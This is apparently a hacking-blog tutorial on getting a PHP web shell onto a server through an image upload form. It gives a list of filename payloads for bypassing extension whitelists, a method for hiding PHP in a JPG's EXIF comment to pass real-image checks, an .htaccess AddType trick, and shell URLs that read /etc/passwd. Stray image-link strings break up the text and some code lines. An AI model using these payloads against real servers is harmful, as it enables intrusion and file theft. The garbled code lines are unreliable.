Hacking, Information Security, Tools And Tricks

How to shell a server via image upload and bypass extension + real image verification

How to shell a server via image upload and bypass extension + real image verification

During a website audit, upload forms and other interactive ‘user-content’ driven facilities are often found to be protected by client side and/or server side security checks. This tutorial presents the methods that can be used to circumvent these security checks. In this case we’re specifically considering image uploads that allow JPG files in particular.Each security measure numbered below will be briefly discussed and paired with an appropriate bypass method, this tutorial aims to provide a complete’ish solution.

1. Client side file verification (with Javascript and/or HTML attributes)

<input name="fileToUpload" type="file" onchange="check_file()"
if($_FILES['userfile']['type'] !="image/jpg")

The bypass is trivial, simply rename your shell with an allowed extension/content type by editing the request header data with an intercepting proxy, I like burp, but FF Tamper Data add-on is great too.

2. A white-list of file extensions is in place so that anything that isn’t a picture is DENIED:

$valid_file_extensions = array(".jpg"".jpeg"".gif"".png");

Often there will then be some sort of string manipulation to determine the file name and extension of an uploaded file. The strength of this code will determine whether one of the following bypasses will work. Functions like ‘strrchr’ shown below may play a part in this process and may be passable given a little bit of imagination!

$file_extension strrchr($_FILES["file"]["name"], ".");

Here is a list of bypasses:

shell.jpg.php (satisfies as check for jpg only)
shell.jpg.PhP (obfuscation)
shell.php;.jpg (sometimes can ignore whats after “;”)
shell.php%0delete0.jpg (the infamous NULL byte which comments out trailing text, remove the word delete so the zeros join together, blogspot strips this string!)

shell.php.test (defaults to first recognised extension ignoring “test”)
shell.php.xxxjpg (still ends in .jpg, but not recognised extension so will default to php!)
.phtml (a commonly used php parsed extension often forgotten about!)
.php3/.php4/.php5 (valid PHP extensions possibly left out of extension blacklists)

3.Perform further checks once uploaded to make sure it is a REAL image:

$imageinfo getimagesize($_FILES['userfile']['tmp_name']);

The function getimagesize() effectively confirms whether the uploaded file is an image or not. At this point, all the other methods will fail (there are other functions that can be used with a similar goal such aschecking image dimensions). The only full-proof solution is to actually upload a real image which will actually pass these checks rather than trying to bypass them.

We turn to the trusty JPG file as our example image. There is an amazing amount of information that can be stored in a jpg file along side the actualy image data. EXIF ‘meta’ data such as the camera model the image was taken on, image descriptions, andcomments are editable with progams such as GIMP and even a hex editor. For purposes of this tutorial I use Exif Pilot.

Create a small image (avatar size) in MSPaint (white background), we can use Exif Pilot to open/edit the file and edit the Exif data- inserting our PHP code into the ‘comment’ section.See the pic below, I am using my generic ‘tiny shell’ code to allow me to pass shell commands to the server on the fly.




Now we can upload the jpg file using an extension bypass shown earlier, and it will pass the real image check.

To run commands on the server, usage would be:website.com/shell.jpg.php?r0ng=cat /etc/passwd


4.Found anextension that will upload but its not valid php…

Upload an .htaccess file which sets an arbitrary file extension to beprocessed as php. If there is already an .htacess file in the image upload directory this should be automatically overwritten.
Create a .htaccess file and put the following code, then upload it (replace .mp3 with whatever extension passed).

AddType application/x-httpd-php .mp3

Upload your shell asshell.mp3. Then access as: website.com/shell.mp3?r0ng=cat /etc/passwd

PreviousArticleNext Article
Send this to a friend